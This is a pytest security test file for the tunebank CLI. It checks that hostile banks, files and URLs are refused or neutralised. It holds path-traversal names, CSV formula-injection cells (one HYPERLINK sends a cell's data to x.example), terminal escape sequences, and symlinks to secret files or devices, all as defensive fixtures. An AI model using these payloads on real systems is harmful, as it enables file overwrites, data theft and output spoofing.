"""What other people's files, banks and URLs can do to a tunebank user (issue 28): each case
is made here, by the test, and each fails without its fix.

- no file is written outside ``--out``, whatever names a bank, tree, result or events file holds;
- every door (result files, trees, events files, merges) refuses a chip that is not a plain name;
- CSV cells never start a formula, unless ``--raw``;
- tables and lines show control characters escaped;
- a password never leaves the URL parser;
- readers open regular files only, check the size first, and never follow a link out of a tree.
"""

from __future__ import annotations

import json
import os
import signal
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner, Result

from fixtures.aoe_banks import entry, quirky_tree
from tests.hostile import refused_or_sound
from tunebank.bank import Bank
from tunebank.cli.main import app

runner = CliRunner()
CHIP = "Ascend910B2"


def _run(*args: str) -> Result:
    """``bank ARGS``, failing the test instead of hanging if a read blocks (a FIFO, a device)."""
    def hung(*_: Any) -> None:
        raise TimeoutError("bank " + " ".join(args) + " hung")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(30)
    try:
        result = runner.invoke(app, list(args))
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result


def _ok(*args: str) -> str:
    result = _run(*args)
    assert result.exit_code == 0, result.output
    return result.stdout


def _refused(*args: str) -> str:
    """The one error line of a command that must fail."""
    result = _run(*args)
    assert result.exit_code != 0, result.output
    lines = result.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("bank: error: "), result.stderr
    return lines[0]


def _result_file(path: Path, op_type: str = "Conv2D", op_name: str = "conv1") -> Path:
    """An OPAT v2 result file with one added operator of the names given."""
    report = {"report_20240315_14300512_140001": [
        {"basic": {"tuning_name": "shared", "tuning_time(s)": 1}},
        {"OPAT": {"opat_tuning_result": "tuning successful", "repo_modified_operators": [
            {"op_name": op_name, "op_type": op_type, "tune_performance": {"Schedule": {
                "performance_after_tune(us)": 5, "performance_before_tune(us)": 10,
                "performance_improvement": "100.00%", "update_mode": "add"}}}],
            "repo_summary": {"repo_add_num": 1, "repo_hit_num": 0, "repo_reserved_num": 0,
                             "repo_unsatisfied_num": 0, "repo_update_num": 0, "total_num": 1}}}]}
    path.write_text(json.dumps(report), encoding="utf-8")
    return path


def _files_under(folder: Path) -> set[Path]:
    return {Path(root) / name for root, _, names in os.walk(folder) for name in names}


# --- files written outside --out -------------------------------------------------------------

@pytest.mark.parametrize("op_type", ["x/../../../../../../PWNED", "A" * 300, "op\x00x", "..",
                                     "C:\\PWNED", "op\nname"])
def test_an_export_never_writes_outside_out(op_type: str, tmp_path: Path) -> None:
    db = str(tmp_path / "bank.db")
    _ok("import", str(_result_file(tmp_path / "r.json", op_type)), "--soc-version", CHIP, "--db", db)
    out = tmp_path / "deep" / "er" / "out"
    before = _files_under(tmp_path)
    line = _refused("export", "--format", "aoe-repo", "--out", str(out), "--db", db)
    assert ("operator type" in line and "plain name" in line) or "characters long" in line
    assert _files_under(tmp_path) == before


def test_an_export_refuses_a_chip_folder_that_is_a_link_out_of_out(tmp_path: Path) -> None:
    db = str(tmp_path / "bank.db")
    _ok("import", str(_result_file(tmp_path / "r.json")), "--soc-version", CHIP, "--db", db)
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / CHIP).symlink_to(elsewhere)
    line = _refused("export", "--format", "aoe-repo", "--out", str(out), "--db", db, "--core-num", "8")
    assert "leads out of" in line
    assert not _files_under(elsewhere)


def test_a_tree_whose_names_are_paths_is_refused(tmp_path: Path) -> None:
    import random

    spec = quirky_tree()
    bad_op = entry(random.Random(1), 1, 24, op="../../PWNED")
    spec.add("Ascend910B2", 24, "MatMulV3", [bad_op])
    line = _refused("import", str(spec.write(tmp_path / "tree")), "--db", str(tmp_path / "b.db"))
    assert "PWNED" in line and "plain name" in line
    dotted = tmp_path / "dotted" / ".._24_AiCore_MatMulV3_runtime_kb.json"
    dotted.parent.mkdir()
    dotted.write_text(json.dumps(entry(random.Random(2), 2, 24)) + "\n", encoding="utf-8")
    line = _refused("import", str(dotted.parent), "--db", str(tmp_path / "b.db"))
    assert "the chip in the name" in line
    assert not (tmp_path / "b.db").exists()


def test_a_result_file_chip_must_be_a_plain_name_even_when_unknown_chips_are_allowed(
        tmp_path: Path) -> None:
    line = _refused("import", str(_result_file(tmp_path / "r.json")), "--soc-version", "../x",
                    "--allow-unknown-soc", "--db", str(tmp_path / "b.db"))
    assert line.startswith("bank: error: --soc-version: the chip '../x' is not a plain name")
    assert not (tmp_path / "b.db").exists()


def test_events_files_and_merges_refuse_a_chip_that_is_a_path(tmp_path: Path) -> None:
    import tunebank.bank.store.writes
    import tunebank.tuner.measure.socs

    hostile = str(tmp_path / "hostile.db")
    events = tmp_path / "hostile.jsonl"
    with pytest.MonkeyPatch.context() as patch:  # the bank a hostile colleague would build
        patch.setattr(tunebank.bank.store.writes, "check_chip", lambda *_: None)
        patch.setattr(tunebank.tuner.measure.socs, "is_plain_name", lambda _: True)
        _ok("import", str(_result_file(tmp_path / "r.json")), "--soc-version", "/tmp/abs",
            "--allow-unknown-soc", "--db", hostile)
        _ok("export", "--format", "jsonl", "--out", str(events), "--db", hostile)
    mine = tmp_path / "mine.db"
    line = _refused("import", str(events), "--db", str(mine))
    assert "hostile.jsonl: line 2" in line and "the chip '/tmp/abs' is not a plain name" in line
    line = _refused("merge", hostile, "--db", str(mine))
    assert "hostile.db: " in line and "the chip '/tmp/abs' is not a plain name" in line
    assert not mine.exists()


# --- spreadsheets ----------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "@SUM(A1:A9)", "+1+2", "-2+3",
            "\t=1", "\r=1"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula_unless_raw(formula: str, tmp_path: Path) -> None:
    db = str(tmp_path / "bank.db")
    _ok("import", str(_result_file(tmp_path / "r.json", op_type=formula, op_name=formula)),
        "--soc-version", CHIP, "--db", db)
    import csv
    import io

    for args in (["query", "--csv"], ["history", "--csv", "--op-type", formula],
                 ["events", "--csv"], ["export", "--format", "csv"]):
        rows = list(csv.reader(io.StringIO(_ok(*args, "--db", db), newline="")))
        cells = [cell for row in rows[1:] for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), args
        assert any(cell.startswith("'") for cell in cells), args
        raw = list(csv.reader(io.StringIO(_ok(*args, "--raw", "--db", db), newline="")))
        assert formula in [cell for row in raw[1:] for cell in row], args


def test_csv_keeps_negative_numbers_as_numbers(tmp_path: Path) -> None:
    from tunebank.cli.common import show_rows

    show_rows(["name", "delta"], [["-x", -2.5]], as_csv=True)  # prints to the captured stdout
    import contextlib
    import io

    buffer = io.StringIO()
    with contextlib.redirect_stdout(buffer):
        show_rows(["name", "delta"], [["-x", -2.5]], as_csv=True)
    assert buffer.getvalue().splitlines()[1] == "'-x,-2.500"


# --- terminals -------------------------------------------------------------------------------

HOSTILE_TEXT = "op\x1b[31mRED\x1b]8;;http://x.example\x07link\x1b]8;;\x07\rOVER\u202eevil\x9b"


def test_names_reach_the_terminal_with_their_control_characters_escaped(tmp_path: Path) -> None:
    db = str(tmp_path / "bank.db")
    result_file = _result_file(tmp_path / "r\x1b[2J.json", op_type=HOSTILE_TEXT,
                               op_name=HOSTILE_TEXT)
    outputs = [_ok("import", str(result_file), "--soc-version", CHIP, "--db", db)]
    for args in (["tasks"], ["query"], ["history", "--op-type", HOSTILE_TEXT], ["events"],
                 ["diff", db, str(tmp_path / "other.db")]):
        if args[0] == "diff":
            _ok("init", "--db", str(tmp_path / "other.db"))
        result = _run(*args, "--db", db) if args[0] != "diff" else _run(*args)
        outputs.append(result.stdout)
    import onnx

    model = onnx.load(str(Path(__file__).parents[2] / "fixtures" / "models" / "squeezenet.onnx"))
    model.graph.node[0].name = HOSTILE_TEXT
    hostile_model = tmp_path / "squeeze\x1b[2Jnet.onnx"
    onnx.save(model, str(hostile_model))
    for args in (["plan", str(hostile_model)], ["tune", str(hostile_model), "--budget", "2"]):
        result = _run(*args, "--soc-version", CHIP, "--db", db)
        assert result.exit_code == 0, result.output
        outputs.append(result.stdout + result.stderr)
    for text in outputs:
        assert not any(ch in text for ch in "\x1b\x07\r\u202e\x9b"), repr(text)
    assert "\\x1b[31mRED" in outputs[2] and "\\x1b[2J.json" in outputs[0]
    assert "squeeze\\x1b[2Jnet" in outputs[-1]
    exact = json.loads(_ok("query", "--json", "--db", db))
    assert HOSTILE_TEXT in [row["op_type"] for row in exact]  # --json stays exact


# --- passwords -------------------------------------------------------------------------------

@pytest.mark.parametrize("url, secret", [
    ("postgresql://u@127.0.0.1:1/db?password=SECRET1", "SECRET1"),
    ("postgresql://u:S3CRET2/x?y@127.0.0.1:1/db", "S3CRET2"),
    ("postgresql://u:S3CRET3#z@127.0.0.1:1/db", "S3CRET3"),
    ("postgresql://u:SECRET4@127.0.0.1:1/db", "SECRET4"),
    ("postgresql://u:p@SECRET5@127.0.0.1:1/db", "SECRET5"),
])
def test_a_password_is_never_printed(url: str, secret: str, tmp_path: Path) -> None:
    for args in (["tasks", "--db", url], ["merge", url, "--db", str(tmp_path / "m.db")],
                 ["diff", url, str(tmp_path / "m.db")]):
        result = _run(*args)
        assert result.exit_code != 0
        assert secret not in result.output and secret not in result.stderr, result.stderr
    assert not (tmp_path / "m.db").exists()


def test_masked_hides_every_spelling_of_a_password() -> None:
    from tunebank.bank.location import masked

    assert masked("postgresql://u:pw@h:5/db") == "postgresql://u:***@h:5/db"
    assert masked("postgresql://u:a/b?c#d@h/db") == "postgresql://u:***@h/db"
    assert masked("postgresql://h/db?sslmode=require&password=pw&x=1") == \
        "postgresql://h/db?sslmode=require&password=***&x=1"
    assert masked("postgresql://u@h/db") == "postgresql://u@h/db"


def test_merge_and_diff_from_a_server_do_not_print_its_password(postgres_url: str,
                                                                tmp_path: Path) -> None:
    with_password = postgres_url.replace("tunebank@", "tunebank:S3CRET@", 1)
    assert "S3CRET" in with_password
    _ok("import", str(_result_file(tmp_path / "r.json")), "--soc-version", CHIP, "--db",
        with_password)
    local = str(tmp_path / "local.db")
    outputs = [_ok("merge", with_password, "--db", local),
               _ok("merge", with_password, "--db", local, "--json"),
               _run("diff", with_password, local).stdout,
               _run("diff", with_password, local, "--json").stdout,
               _ok("init", "--db", with_password, "--json"),
               _ok("init", "--db", with_password)]
    for text in outputs:
        assert "S3CRET" not in text, text
    assert "tunebank:***@" in outputs[0]


# --- readers ---------------------------------------------------------------------------------

def test_a_tree_cannot_make_tunebank_read_devices_fifos_or_files_outside_it(tmp_path: Path) -> None:
    tree = quirky_tree().write(tmp_path / "tree")
    folder = next(tree.glob("*/unified_bank"))
    db = tmp_path / "bank.db"
    times = folder / "tunebank_times.json"
    times.symlink_to("/dev/zero")
    line = _refused("import", str(tree), "--db", str(db))
    assert "tunebank_times.json: a link to a file outside the tree" in line
    times.unlink()
    os.mkfifo(times)
    line = _refused("import", str(tree), "--db", str(db))
    assert "tunebank_times.json: not a regular file" in line
    times.unlink()
    secret = tmp_path / "secret.txt"
    secret.write_text("the user's own file\n", encoding="utf-8")
    (folder / "Ascend910B2_24_AiCore_Stolen_runtime_kb.json").symlink_to(secret)
    line = _refused("import", str(tree), "--db", str(db))
    assert "a link to a file outside the tree" in line and "the user's own" not in line
    (folder / "Ascend910B2_24_AiCore_Stolen_runtime_kb.json").unlink()
    os.mkfifo(folder / "Ascend910B2_24_AiCore_Fifo_runtime_kb.json")
    line = _refused("import", str(tree), "--db", str(db))
    assert "Fifo_runtime_kb.json: not a regular file" in line
    assert not db.exists()


@pytest.mark.parametrize("door", ["import", "model", "campaign", "tuning-config"])
def test_a_fifo_or_a_device_given_as_a_file_is_refused_at_once(door: str, tmp_path: Path) -> None:
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    db = str(tmp_path / "bank.db")
    for special in (str(fifo), "/dev/zero"):
        args = {"import": ["import", special, "--soc-version", CHIP],
                "model": ["tune", special, "--soc-version", CHIP],
                "campaign": ["tune", "--campaign", special],
                "tuning-config": ["tune", str(Path(__file__).parents[2] / "fixtures" / "models"
                                                / "squeezenet.onnx"), "--soc-version", CHIP,
                                  "--tuning-config", special]}[door]
        line = _refused(*args, "--db", db)
        assert special in line and "not a regular file" in line, line
    assert not Path(db).exists()


def test_a_result_file_over_the_cap_is_refused_before_it_is_read(tmp_path: Path) -> None:
    from tunebank.bank.formats.jsontext import MAX_BYTES

    big = tmp_path / "huge.json"
    with big.open("wb") as handle:  # sparse: no disk, and a read of it would take 600 MiB
        handle.truncate(MAX_BYTES + 1)
    line = _refused("import", str(big), "--soc-version", CHIP, "--db", str(tmp_path / "b.db"))
    assert "huge.json" in line and "MiB an input may be" in line


def test_a_budget_beyond_reason_is_refused_before_the_bank_is_touched(tmp_path: Path) -> None:
    model = Path(__file__).parents[2] / "fixtures" / "models" / "squeezenet.onnx"
    db = tmp_path / "b.db"
    line = _refused("tune", str(model), "--soc-version", CHIP, "--budget", str(2**63 - 1),
                    "--db", str(db))
    assert "--budget: 9223372036854775807 is out of bounds: must be between 1 and 100,000" in line
    assert not db.exists()


def test_a_model_whose_weights_lie_outside_its_folder_is_refused_before_the_tune(
        tmp_path: Path) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"], name="mm")], "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4, 4])], [weight])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    tensor = model.graph.initializer[0]
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    location = tensor.external_data.add()
    location.key, location.value = "location", "../../etc/hostname"
    path = tmp_path / "m.onnx"
    onnx.save(model, str(path))
    db = tmp_path / "b.db"
    line = _refused("tune", str(path), "--soc-version", CHIP, "--db", str(db),
                    "--output", str(tmp_path / "o"))
    assert "external data '../../etc/hostname' is not a file in the model's folder" in line
    assert not db.exists()


def test_the_hostile_bank_check_still_holds_for_a_refused_chip(tmp_path: Path) -> None:
    """The general check of tests/hostile.py: a refused import leaves the bank as it was."""
    db = tmp_path / "bank.db"
    _ok("init", "--db", str(db))
    with Bank.open(str(db)) as bank:
        assert bank.head() == 0
    refused_or_sound(["import", str(_result_file(tmp_path / "r.json")), "--soc-version", "a/b",
                      "--allow-unknown-soc", "--db", str(db)], db)
